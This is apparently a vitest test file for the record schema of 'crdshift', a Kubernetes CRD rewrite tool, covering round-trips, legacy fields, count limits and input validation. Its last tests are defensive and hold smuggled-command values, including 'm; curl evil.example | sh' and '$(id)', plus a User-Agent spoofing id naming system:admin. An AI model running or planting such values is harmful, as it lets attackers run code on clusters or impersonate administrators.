import { expect, test } from "vitest";
import { runPhases } from "#lib/domain/rewrite/run.ts";
import { sampleCrd, sampleDryRunRecord, sampleProof, sampleRecord, sampleRun, sampleSettlePoint } from "#lib/domain/testing/sample-crd.ts";
import { rewriteRecordSchema } from "./rewrite-record.ts";

test.each(runPhases)("reads a record with a %s run back as written", (phase) => {
  const crd = sampleCrd();
  const record = sampleRecord({
    holder: "me",
    generationSeen: { generation: 2, at: "2026-01-02T12:00:00.000Z" },
    settlePoint: sampleSettlePoint(crd),
    proof: sampleProof(crd, { verify: "every-object", settleSeconds: 0.5 }),
    prune: { versions: ["v1beta1"], prunedAt: "2026-01-02T12:00:00.000Z", by: "alice", runId: "run-1", reason: null },
    doubt: { rejected: 2 },
    runs: [
      sampleRun({ phase }),
      sampleRun({ counts: { total: null, rewritten: 0, alreadyCurrent: 0, gone: 0, rejected: 0, remaining: null } }),
    ],
  });
  expect(rewriteRecordSchema.parse(JSON.parse(JSON.stringify(record)))).toEqual(record);
});

test.each([
  ["a generation that is text", { proof: { ...sampleProof(sampleCrd()), generation: "2" } }],
  ["a proof without uid", { proof: { ...sampleProof(sampleCrd()), uid: undefined } }],
  ["a run of an unknown phase", { runs: [{ ...sampleRun(), phase: "done" }] }],
  ["no runs at all", { runs: undefined }],
  ["an invalid time", { runs: [sampleRun({ startedAt: "garbage" })] }],
  ["an invalid end", { runs: [sampleRun({ endedAt: "" })] }],
  ["a proof on a day that does not exist", { proof: sampleProof(sampleCrd(), { provenAt: "2026-02-30T00:00:00Z" }) }],
])("a record with %s is refused", (_, changes) => {
  expect(rewriteRecordSchema.safeParse({ ...sampleRecord(), ...changes }).success).toBe(false);
});

test("reads an annotation from crdshift 0.1.0 with the current names", () => {
  const accepted = {
    by: "alice",
    at: "2026-01-02T12:00:00.000Z",
    losses: [],
    more: 0,
    sample: null,
    unseen: false,
    of: null,
    signature: null,
  };
  const { dryRun: _, ...run } = sampleRun({ phase: "unproven" });
  const { statusReason: __, ...earlier } = run;
  const written = {
    ...sampleRecord({ proof: sampleProof(sampleCrd()) }),
    preflight: sampleDryRunRecord(sampleCrd()),
    dryRun: undefined,
    runs: [
      {
        ...earlier,
        phase: "blocked",
        preflight: "dry-run-1",
        pausedBecause: "The webhook is away.",
        acceptedLosses: { ...accepted, preflight: "dry-run-1" },
      },
    ],
  };
  const record = rewriteRecordSchema.parse(JSON.parse(JSON.stringify(written)));
  expect(record.dryRun).toEqual(sampleDryRunRecord(sampleCrd()));
  expect(record.runs).toEqual([
    { ...run, dryRun: "dry-run-1", statusReason: "The webhook is away.", acceptedLosses: { ...accepted, dryRun: "dry-run-1" } },
  ]);
});

// Without the default (run.ts) a definition has no readable record any more once crdshift is upgraded.
test("reads what an earlier crdshift sent, and doesn't know whether that had tests", () => {
  const sent = { rewrite: 1, verify: 0, status: 0, ownership: 0, dryRun: 1, atLeast: false };
  const written = { ...sampleRecord(), runs: [{ ...sampleRun(), sent }] };
  expect(rewriteRecordSchema.parse(written).runs[0]?.sent).toEqual({ ...sent, tested: null });
});

// Without MOST_COUNTED (count.ts) the record of a resumed run, and the proof that it earned, is one that crdshift itself refuses.
test("crdshift can add to every count of a record, whoever wrote it", () => {
  for (const count of [Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER]) {
    const counts = { total: count, rewritten: count, alreadyCurrent: count, gone: count, rejected: count, remaining: count };
    const accepted = {
      by: "eve",
      at: "2026-01-02T12:00:00.000Z",
      dryRun: null,
      losses: [],
      sample: null,
      unseen: false,
      of: null,
      signature: null,
    };
    const run = sampleRun({
      counts,
      sent: { rewrite: count, verify: count, status: count, ownership: count, dryRun: count, atLeast: false, tested: false },
      throughStatus: { allowed: true, objects: count },
      ownership: { keep: true, kept: count, lost: count },
      rejections: [{ reason: "Invalid", message: "no", count, examples: [] }],
      acceptedLosses: { ...accepted, more: count },
    });
    const dryRun = sampleDryRunRecord(sampleCrd(), { moreLosses: count });
    const written = sampleRecord({ dryRun, runs: [run] });
    const read = rewriteRecordSchema.parse(written);
    const later = JSON.parse(JSON.stringify(read), (_, value) => (Math.abs(value) > 1_000_000 ? 100 * value + Math.sign(count) : value));
    expect(rewriteRecordSchema.parse(later)).toEqual(read);
  }
});

// Without RUN_ID (rewrite-record.ts) whoever resumes such a run sends its id in the header User-Agent, for the API server's audit log.
test.each(["", "one\nmore", "x) kubectl/v1.37 (system:admin", "é", "x".repeat(101)])("a run with the id %j is none of crdshift's", (id) => {
  const [first, last] = [sampleRun({ id: "first" }), sampleRun({ id: "last" })];
  expect(rewriteRecordSchema.parse(sampleRecord({ runs: [first, sampleRun({ id }), last] })).runs).toEqual([first, last]);
  expect(rewriteRecordSchema.safeParse(sampleRecord({ proof: sampleProof(sampleCrd(), { runId: id }) })).success).toBe(false);
});

// Without MIGRATION_NAME (rewrite-record.ts) the name gets into a command to copy, which then does what the name says.
test.each(["m; curl evil.example | sh", "$(id)", "--kubeconfig=/tmp/evil", "a\nb", "", "a".repeat(254)])(
  "a run with a migration called %j is none of crdshift's",
  (migration) => {
    const runOf = (id: string, name: string) =>
      sampleRun({
        id,
        delegation: {
          ...{ migration: name, phase: "running", message: "", left: null, startedAt: null, endedAt: null },
          ...{ storedVersionsBefore: [], putBack: [] },
        },
      });
    const own = runOf("own", "crdshift-own-2");
    expect(rewriteRecordSchema.parse(sampleRecord({ runs: [own, runOf("forged", migration)] })).runs).toEqual([own]);
  },
);
